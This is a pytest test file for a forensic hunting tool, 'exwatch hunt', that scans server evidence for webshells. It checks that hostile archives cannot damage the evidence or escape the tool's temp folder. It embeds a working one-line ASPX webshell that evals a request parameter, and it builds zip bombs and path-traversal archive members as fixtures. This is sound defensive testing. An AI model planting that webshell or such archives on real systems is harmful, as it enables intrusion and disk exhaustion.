"""Hostile archives in the evidence: nested bombs, members that cannot be written as named, ``../``
members, and archives of many tiny members.

Every test runs the real ``exwatch hunt`` on archives generated here (zipfile, tarfile, py7zr) and checks
that the evidence is unchanged and that nothing was written outside the hunt's temp folder (which must
be empty again afterwards).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
import tempfile
import threading
import time
import zipfile
from pathlib import Path
from typing import Any

import py7zr
import pytest
from click.testing import CliRunner

from exwatch.cli.main import cli

SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\n'
SHELL_DIR = "inetpub/wwwroot/aspnet_client"


class Sandbox:
    """A test folder with the evidence, a temp folder the hunt must use and clean, and a working folder."""

    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.base = tmp_path
        self.evidence = tmp_path / "EXCH01"
        self.evidence.mkdir()
        self.temp = tmp_path / "temp"
        self.temp.mkdir()
        monkeypatch.setattr(tempfile, "tempdir", str(self.temp))
        monkeypatch.setenv("TMPDIR", str(self.temp))
        (tmp_path / "cwd").mkdir()
        monkeypatch.chdir(tmp_path / "cwd")
        self.peak = 0

    def snapshot(self) -> dict[str, str]:
        out: dict[str, str] = {}
        for dirpath, dirnames, filenames in os.walk(self.base):
            d = Path(dirpath)
            if d == self.temp:
                dirnames[:] = []
                continue
            for name in dirnames + filenames:
                p = d / name
                key = str(p.relative_to(self.base))
                if p.is_symlink():
                    out[key] = "link:" + os.readlink(p)
                elif p.is_dir():
                    out[key] = "dir"
                else:
                    out[key] = hashlib.sha256(p.read_bytes()).hexdigest()
        return out

    def temp_bytes(self) -> int:
        total = 0
        for dirpath, _, filenames in os.walk(self.temp):
            for f in filenames:
                try:
                    total += os.lstat(os.path.join(dirpath, f)).st_size
                except OSError:
                    pass
        return total

    def hunt(self, *args: str, path: Path | None = None) -> tuple[int, dict[str, Any], str]:
        """Run the hunt; ``self.peak`` is the most the temp folder held while it ran (sampled)."""
        before = self.snapshot()
        done = threading.Event()
        self.peak = 0

        def sample() -> None:
            while not done.is_set():
                self.peak = max(self.peak, self.temp_bytes())
                time.sleep(0.005)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        try:
            res = CliRunner().invoke(
                cli,
                ["hunt", str(path or self.evidence), "--format", "json", "--no-store", "--jobs", "1", *args],
            )
        finally:
            done.set()
            sampler.join()
        assert self.snapshot() == before, "the hunt changed the evidence or wrote outside its temp folder"
        assert not any(self.temp.iterdir()), "the hunt left files in its temp folder"
        assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
        doc = json.loads(res.stdout) if res.stdout.strip() else {}
        return res.exit_code, doc, res.stderr


@pytest.fixture
def box(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    return Sandbox(tmp_path, monkeypatch)


def _errors(doc: dict[str, Any], kind: str | None = None) -> list[dict[str, Any]]:
    return [e for e in doc.get("errors", []) if kind is None or e["kind"] == kind]


def _shell_files(doc: dict[str, Any]) -> set[str]:
    return {f["evidence"]["file"] for f in doc["findings"] if f["rule"].startswith("webshell.")}


def _zip_bomb(size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("zeros.bin", b"\0" * size)
    return buf.getvalue()


def _tar_add(tf: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 1614900000
    tf.addfile(info, io.BytesIO(data))


# --- nested bombs -----------------------------------------------------------------------------


def test_nested_zip_bombs_share_one_budget_and_space_is_freed(box: Sandbox) -> None:
    """A small .tar.gz of zip bombs, each under the per-archive limits: before, each inner archive had its
    own budget and every expanded byte stayed on disk to the end of the hunt."""
    bomb = _zip_bomb(8 << 20)
    with tarfile.open(box.evidence.parent / "pkg.tar.gz", "w:gz") as tf:
        _tar_add(tf, f"{SHELL_DIR}/s.aspx", SHELL)
        for i in range(12):
            _tar_add(tf, f"Temp/bomb{i:02d}.zip", bomb)
    (box.evidence.parent / "pkg.tar.gz").rename(box.evidence / "pkg.tar.gz")
    assert (box.evidence / "pkg.tar.gz").stat().st_size < 200_000
    code, doc, _ = box.hunt()
    assert code == 1 and f"pkg.tar.gz!/{SHELL_DIR}/s.aspx" in _shell_files(doc)
    bombs = [e for e in _errors(doc, "archive_limit") if "archive bomb" in e["error"]]
    assert bombs, doc["errors"]
    assert box.peak < 40 << 20, f"temp folder peaked at {box.peak} bytes"


def test_archive_budget_option(box: Sandbox) -> None:
    bomb = _zip_bomb(2 << 20)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:  # stored: the outer ratio does not stop it
        for i in range(6):
            zf.writestr(f"b{i}.zip", bomb)
    (box.evidence / "pkg.zip").write_bytes(buf.getvalue())
    code, doc, _ = box.hunt("--max-archive-bytes", "5M")
    assert code == 3
    assert any("5242880" in e["error"] for e in _errors(doc, "archive_limit")), doc["errors"]
    assert box.peak < 12 << 20
    code, doc, _ = box.hunt("--max-archive-bytes", "64M")
    # No error; the exit code is 3 only because a package without any log cannot be called clean.
    assert code in (0, 3) and not _errors(doc)


# --- bad members ------------------------------------------------------------------------------


def test_bad_zip_members_do_not_hide_the_others(box: Sandbox) -> None:
    long_name = (
        "Logs/" + "x" * 300 + ".log"
    )  # legal on Windows (260 UTF-16 units per path is not a limit in a zip)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(long_name, b"hello\n")
        zf.writestr("a", b"a file\n")
        zf.writestr("a/b.txt", b"a file under a file\n")  # file-as-folder
        zf.writestr(f"{SHELL_DIR}/s.aspx", SHELL)
        zf.writestr(f"{SHELL_DIR}/{'y' * 280}.aspx", SHELL)
    (box.evidence / "pkg.zip").write_bytes(buf.getvalue())
    code, doc, _ = box.hunt()
    assert code == 1
    assert {f"pkg.zip!/{SHELL_DIR}/s.aspx", f"pkg.zip!/{SHELL_DIR}/{'y' * 280}.aspx"} <= _shell_files(doc)
    assert doc["coverage"]["EXCH01"]["files"]["files"] == 6  # the archive and its five members


def test_bad_tar_members_do_not_hide_the_others(box: Sandbox) -> None:
    with tarfile.open(box.base / "pkg.tar", "w") as tf:
        _tar_add(tf, "a", b"file\n")
        _tar_add(tf, "a/b.txt", b"file under a file\n")
        _tar_add(tf, "../../escape.aspx", SHELL)
        _tar_add(tf, f"{SHELL_DIR}/s.aspx", SHELL)
    (box.base / "pkg.tar").rename(box.evidence / "pkg.tar")
    code, doc, _ = box.hunt()
    assert code == 1
    assert {f"pkg.tar!/{SHELL_DIR}/s.aspx", "pkg.tar!/escape.aspx"} <= _shell_files(doc)
    assert any("../../escape.aspx" in e["error"] for e in _errors(doc, "archive_member"))


def test_7z_with_a_dotdot_member_is_hunted(box: Sandbox) -> None:
    archive = box.evidence / "pkg.7z"
    with py7zr.SevenZipFile(archive, "w") as zf:
        zf.writestr(b"hello\n", "Logs/a.log")
        zf._writestr(SHELL, "../../../tmp/evil.aspx")  # py7zr's public writer refuses such names
        zf.writestr(SHELL, f"{SHELL_DIR}/s.aspx")
    code, doc, _ = box.hunt()
    assert code == 1
    assert {f"pkg.7z!/{SHELL_DIR}/s.aspx", "pkg.7z!/tmp/evil.aspx"} <= _shell_files(doc)
    assert any("../../../tmp/evil.aspx" in e["error"] for e in _errors(doc, "archive_member"))
    assert not Path("/tmp/evil.aspx").exists() or Path("/tmp/evil.aspx").read_bytes() != SHELL


def test_dotdot_zip_member_is_hunted_under_a_clean_path(box: Sandbox) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(f"../../{SHELL_DIR}/s.aspx", SHELL)
        zf.writestr("/abs/x.aspx", SHELL)
        zf.writestr("C:\\inetpub\\w.aspx", SHELL)
    (box.evidence / "pkg.zip").write_bytes(buf.getvalue())
    code, doc, _ = box.hunt()
    assert code == 1
    assert {f"pkg.zip!/{SHELL_DIR}/s.aspx", "pkg.zip!/abs/x.aspx", "pkg.zip!/inetpub/w.aspx"} <= _shell_files(
        doc
    )
    reported = " ".join(e["error"] for e in _errors(doc, "archive_member"))
    assert f"../../{SHELL_DIR}/s.aspx" in reported and "/abs/x.aspx" in reported


# --- many members -----------------------------------------------------------------------------


def _many(n: int, prefix: str = "m") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(n):
            zf.writestr(f"{prefix}/{i:06d}.txt", b"")
    return buf.getvalue()


def test_many_empty_members_are_quick(box: Sandbox) -> None:
    """A 5 MB zip of 50,000 empty members took 48 s."""
    (box.evidence / "many.zip").write_bytes(_many(50_000))
    started = time.perf_counter()
    code, doc, _ = box.hunt()
    elapsed = time.perf_counter() - started
    assert code in (0, 3) and not _errors(doc), doc.get("errors")
    assert doc["coverage"]["EXCH01"]["files"]["files"] == 50_001
    assert elapsed < 20, f"{elapsed:.1f} s for 50,000 empty members"


def test_members_are_counted_across_nesting(box: Sandbox) -> None:
    inner = _many(400, "in")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(5):
            zf.writestr(f"nested{i}.zip", inner)
        zf.writestr(f"{SHELL_DIR}/s.aspx", SHELL)
    (box.evidence / "outer.zip").write_bytes(buf.getvalue())
    code, doc, _ = box.hunt("--max-members", "1000")
    limit = _errors(doc, "archive_limit")
    assert limit and "more than 1000 archive members" in limit[0]["error"]
    assert doc["coverage"]["EXCH01"]["files"]["files"] <= 1001
    assert f"outer.zip!/{SHELL_DIR}/s.aspx" in _shell_files(doc)  # the outer members are all hunted
    code, doc, _ = box.hunt("--max-members", "5000")
    assert code == 1 and not _errors(doc)
    assert doc["coverage"]["EXCH01"]["files"]["files"] == 1 + 6 + 5 * 400
